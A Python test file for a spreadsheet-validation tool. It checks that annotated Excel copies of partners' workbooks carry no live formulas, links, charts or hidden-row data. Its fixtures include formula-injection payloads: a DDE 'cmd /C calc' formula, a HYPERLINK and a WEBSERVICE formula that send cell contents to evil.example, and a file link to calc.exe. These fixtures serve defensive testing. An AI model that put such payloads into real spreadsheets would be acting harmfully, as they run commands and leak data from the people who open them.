"""The annotated workbook: highlighted cells with comments, and an Errors sheet."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fivew_factories import TODAY, record, write_csv, write_xlsx
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kipu.core.schema import COLUMN_BY_NAME, COLUMN_NAMES
from kipu.core.validation import validate_file
from kipu.core.validation.annotate import ERROR_FILL, WARNING_FILL, annotate_workbook
from kipu.core.write import formula_like


def test_annotated_xlsx(tmp_path: Path, reference) -> None:
    rows = [record(), record(admin1="Lmia", admin2=None, activity_name="b"), record()]
    source = write_xlsx(tmp_path / "in.xlsx", rows)
    result = validate_file(source, reference, today=TODAY)
    out = annotate_workbook(source, result.report, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames[0] == "Errors"
    bad = book["5W"].cell(row=3, column=COLUMN_NAMES.index("admin1") + 1)
    assert bad.fill.start_color.rgb.endswith(ERROR_FILL.start_color.rgb[-6:])
    assert "unknown-admin1" in bad.comment.text and "Lima" in bad.comment.text
    warned = book["5W"].cell(row=4, column=1)  # duplicate-row has no column: first cell
    assert warned.fill.start_color.rgb.endswith(WARNING_FILL.start_color.rgb[-6:])
    errors = list(book["Errors"].iter_rows(values_only=True))
    assert errors[0][:4] == ("Severity", "Code", "Sheet", "Row")
    assert [(r[1], r[3]) for r in errors[1:]] == [("unknown-admin1", 3), ("duplicate-row", 4)]
    assert book["5W"].cell(row=2, column=1).comment is None


def test_annotated_csv_becomes_xlsx(tmp_path: Path, reference) -> None:
    source = write_csv(tmp_path / "in.csv", [record(month="13/2025")])
    result = validate_file(source, reference, today=TODAY)
    out = annotate_workbook(source, result.report, tmp_path / "out.xlsx", lang="es")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Errores", "in"]
    cell = book["in"].cell(row=2, column=COLUMN_NAMES.index("month") + 1)
    assert cell.value == "13/2025" and "invalid-month" in cell.comment.text
    assert book["Errores"]["A1"].value == "Gravedad"


# What a partner's workbook may hold that a spreadsheet runs: formulas (HYPERLINK, DDE-like,
# arithmetic, an array formula) and text that starts as one.
_FORMULAS = ['=HYPERLINK("http://evil.example","click me")', "=3+4", '=cmd|" /C calc"!A0',
             "=SUM(T2:Y2)", '="=1+1"']  # fmt: skip
_TEXTS = st.text(alphabet="=+-@\tabc1 '", min_size=1, max_size=8).filter(
    lambda t: formula_like(t) and t.strip()
)


def _partner_book(
    path: Path, formulas: list[str], texts: list[str], cached: int, *, excel: bool = True
) -> Path:
    """A 5W sheet whose row 2 holds `formulas` (saved values `cached`) in the count columns,
    and `texts` as text cells; saved as Excel saves it, or (`excel=False`) as xlsxwriter
    does, asking to be recalculated on opening (its saved values are placeholders)."""
    import xlsxwriter

    with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet("5W")
        sheet.write_row(0, 0, [COLUMN_BY_NAME[n].label_en for n in COLUMN_NAMES])
        sheet.write_row(1, 0, [record().get(n) for n in COLUMN_NAMES])
        for offset, formula in enumerate(formulas):
            sheet.write_formula(1, COLUMN_NAMES.index("girls") + offset, formula, None, cached)
        sheet.write_array_formula(2, 0, 2, 0, "{=SUM(T2:U2)}", None, cached)
        sheet.write_formula(1, len(COLUMN_NAMES) + 2, "=1+1", None, 12345)  # not a 5W column
        for offset, text in enumerate(texts):
            sheet.write_string(3, offset, text)
        book.define_name("Secret", '="text of the file"')
        live = book.add_format({"bold": True})
        hunt = '=ISNUMBER(SEARCH("x",WEBSERVICE("http://evil.example/?"&A3)))'
        sheet.conditional_format(1, 0, 5, 0, {"type": "formula", "criteria": hunt, "format": live})
        sheet.data_validation(1, 1, 5, 1, {"validate": "list", "source": "=cmd|'/C calc'!A0"})
        sheet.write_url(5, 0, "file:///C:/Windows/System32/calc.exe", string="calc")
        sheet.write_url(5, 1, "https://ok.example/evidence", string="evidence")
        sheet.autofilter(0, 0, 5, len(COLUMN_NAMES) - 1)
        sheet.filter_column_list(0, ["Peruvian Red Cross"])
    if excel:
        from kipu.core.demo_regional import _as_excel_saves

        _as_excel_saves(path)
    return path


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    formulas=st.lists(st.sampled_from(_FORMULAS), min_size=1, max_size=5),
    texts=st.lists(_TEXTS, min_size=1, max_size=4),
    excel=st.booleans(),
)
def test_the_annotated_workbook_holds_no_formula(
    tmp_path_factory: pytest.TempPathFactory,
    reference,
    formulas: list[str],
    texts: list[str],
    excel: bool,
) -> None:
    """A partner's `=HYPERLINK(…)` (and any formula) was sent back live in the workbook the
    IM team opens, and their text "=1+1" without its quote prefix: formulas are written as
    the values they saved, such text is quote-prefixed, and defined names go with the rows
    a reader may not see."""
    folder = tmp_path_factory.mktemp("annotated")
    source = _partner_book(folder / "in.xlsx", formulas, texts, cached=7, excel=excel)
    result = validate_file(source, reference, today=TODAY)
    for keep in (None, frozenset({2})):
        out = annotate_workbook(source, result.report, folder / "out.xlsx", keep_rows=keep)
        with zipfile.ZipFile(out) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            written = b"".join(archive.read(n) for n in sheets)
            assert not re.search(rb"<f[ >/]", written)
            assert not any("externalLink" in n for n in archive.namelist())
            assert b"conditionalFormatting" not in written and b"dataValidation" not in written
            assert b"calc.exe" not in written
            assert (b"Peruvian Red Cross" in written) == (keep is None)  # the partner's own
            assert (b"https://ok.example/evidence" in written) == (keep is None)
        book = openpyxl.load_workbook(out)
        sheet = book["5W"]
        first = COLUMN_NAMES.index("girls") + 1
        # Saved values as Excel saves them; a recalculated workbook's placeholders: none.
        shown = [sheet.cell(row=2, column=first + i).value for i in range(len(formulas))]
        assert shown == [7 if excel else None] * len(formulas)
        beyond = sheet.cell(row=2, column=len(COLUMN_NAMES) + 3).value
        assert beyond == (12345 if excel else None)  # row 2 is kept
        assert sheet.cell(row=3, column=1).value == (7 if keep is None and excel else None)
        for offset, text in enumerate(texts):
            cell = sheet.cell(row=4, column=offset + 1)
            assert cell.value == (text if keep is None else None)
            assert keep is not None or (cell.data_type == "s" and cell.quotePrefix)
        assert ("Secret" in book.defined_names) == (keep is None)


def test_a_large_csv_is_annotated_in_one_pass(tmp_path: Path, reference) -> None:
    """Each appended row's text was checked by `sheet[sheet.max_row]`, which scans the whole
    sheet: a 25,000-row CSV took more than ten minutes (a re-tester), 5,000 rows 46 s."""
    rows = [record(activity_name=f"=A{i}" if i % 1000 == 0 else f"a{i}") for i in range(10_000)]
    source = write_csv(tmp_path / "big.csv", rows)
    result = validate_file(source, reference, today=TODAY)
    out = annotate_workbook(source, result.report, tmp_path / "big.xlsx")
    sheet = openpyxl.load_workbook(out, read_only=False)["big"]
    name = COLUMN_NAMES.index("activity_name") + 1
    assert sheet.max_row == 10_001
    quoted = [c for (c,) in sheet.iter_rows(min_row=2, min_col=name, max_col=name)]
    assert [c.value for c in quoted if c.quotePrefix] == [f"=A{i}" for i in range(0, 10_000, 1000)]


def test_a_readers_copy_keeps_no_chart_table_or_filter_of_other_rows(
    tmp_path: Path, reference
) -> None:
    """A chart's cache held a hidden row's text, and an Excel table's filter a value of
    another row (a re-tester): a copy for some rows keeps neither."""
    import xlsxwriter

    path = tmp_path / "in.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("5W")
        sheet.write_row(0, 0, [COLUMN_BY_NAME[n].label_en for n in COLUMN_NAMES])
        for row in range(1, 5):
            values = record(activity_name=f"SECRET-{row}" if row == 3 else f"a{row}")
            sheet.write_row(row, 0, [values.get(n) for n in COLUMN_NAMES])
        sheet.add_table(6, 0, 8, 1, {"autofilter": True, "columns": [{"header": "k"}, {}]})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"categories": "='5W'!$J$2:$J$5", "values": "='5W'!$S$2:$S$5"})
        sheet.insert_chart("AH2", chart)
    result = validate_file(path, reference, today=TODAY)
    out = annotate_workbook(path, result.report, tmp_path / "out.xlsx", keep_rows=frozenset({2}))
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        assert not [n for n in names if "/charts/" in n or "/tables/" in n or "pivot" in n]
        assert not any(b"SECRET" in archive.read(n) for n in names)
